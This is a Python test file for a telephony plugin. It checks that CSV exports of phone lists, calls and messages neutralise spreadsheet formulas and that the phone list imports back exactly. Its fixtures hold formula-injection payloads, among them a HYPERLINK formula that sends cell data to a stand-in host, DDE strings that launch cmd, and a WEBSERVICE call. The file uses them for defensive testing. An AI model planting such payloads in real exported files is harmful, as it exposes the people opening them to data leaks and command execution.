"""The telephony CSV files open in a spreadsheet without running a caller's
formula (core.csvsafe), and the phone list imports back exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest

from core.csvsafe import FORMULA_STARTS
from plugins.telephony.service import service_for

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Rückruf")'
EVIL_COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTACTS = [  # name, company, number as typed
    (EVIL_NAME, EVIL_COMPANY, "+49 30 1234567"),
    ("-2+3+cmd|' /C calc'!A0", "+Plus GmbH", "0049 89 7654321"),
    ("'=already quoted", "'tis a company", "030 998877"),
    ("Klaus Brandt", "Brandt, Söhne & Co", "+49 40 111222"),
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, row


@pytest.fixture
def admin(site):
    bd = site.open("alice")
    yield bd
    bd.close()


@pytest.fixture
def hostile(admin):
    tel = service_for(admin.context("telephony"))
    for name, company, number in CONTACTS:
        tel.log_call(number, name=name, company=company)
    someone = admin.services.people.by_extension("131")
    admin.services.people.update_person(someone["id"], name="=Anna+Becker", title="@boss")
    return tel


def _contacts(tel) -> list[tuple]:
    return sorted((c["name"], c.get("company"), c["number"]) for c in tel.contacts.all())


def test_phone_list_export_neutralises_names_companies_and_numbers(hostile):
    out = io.StringIO()
    hostile.export_csv(out)
    rows = _rows(out.getvalue())
    assert rows[0] == ["name", "extension", "department", "email", "company", "number"]
    _no_formula(rows)
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["'" + EVIL_NAME][4:] == ["'" + EVIL_COMPANY, "'+49301234567"]
    assert by_name["'-2+3+cmd|' /C calc'!A0"][4:] == ["'+Plus GmbH", "'+49897654321"]
    assert by_name["''=already quoted"][4:] == ["'tis a company", "030998877"]  # no + : a plain number
    assert by_name["Klaus Brandt"][4:] == ["Brandt, Söhne & Co", "'+4940111222"]
    assert by_name["'=Anna+Becker"][1] == "131"


def test_phone_list_round_trip_is_exact(hostile, admin):
    out = io.StringIO()
    hostile.export_csv(out)
    text = out.getvalue()
    before = _contacts(hostile)
    assert hostile.import_csv(io.StringIO(text)) == {"updated": 0, "created": 0, "unchanged": len(before) + sum(
        1 for p in admin.services.people.find("", status=("active", "on_leave")) if p["extension"])}
    # without the contacts: the import brings them back byte for byte
    with admin.store.transaction():
        for c in hostile.contacts.all():
            hostile.contacts.delete(c["id"])
    result = hostile.import_csv(io.StringIO(text))
    assert result["created"] == len(before) and result["updated"] == 0
    assert _contacts(hostile) == before
    assert ("'=already quoted", "'tis a company", "030998877") in before
    # the person's extension was found again by email, under the hostile name
    assert admin.services.people.by_extension("131")["name"] == "=Anna+Becker"


def test_phone_list_import_of_a_hand_written_file(hostile):
    data = "name,company,number\n'Tis Tanner,'0815 GmbH,030 123456\n'@Home,=SUM(1),030 654321\n"
    assert hostile.import_csv(io.StringIO(data))["created"] == 2
    got = {c["number"]: (c["name"], c["company"]) for c in hostile.contacts.all()}
    assert got["030123456"] == ("'Tis Tanner", "'0815 GmbH")
    assert got["030654321"] == ("@Home", "=SUM(1)")


def test_calls_and_messages_csv_neutralise_what_callers_said(site, hostile):
    hostile.take_message("131", "=WEBSERVICE(\"http://evil.example\")", caller="+Eve Evil",
                         number="+49 30 555", company="-Evil Corp")
    r = site.cli("phone", "calls", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = _rows(r.stdout)
    _no_formula(rows)
    header = rows[0]
    callers = {row[header.index("caller")] for row in rows[1:]}
    assert f"'{EVIL_NAME} ({EVIL_COMPANY})" in callers
    assert all(int(row[0]) > 0 for row in rows[1:])  # ids stay numbers
    r = site.cli("phone", "messages", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = _rows(r.stdout)
    _no_formula(rows)
    (row,) = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert row["text"] == "'=WEBSERVICE(\"http://evil.example\")"
    assert row["for"] == "'=Anna+Becker"
    assert row["number"] == "'+4930555"
    # JSON stays as it is (a machine format)
    r = site.cli("phone", "messages", "--format", "json")
    assert json.loads(r.stdout)[0]["text"] == "=WEBSERVICE(\"http://evil.example\")"
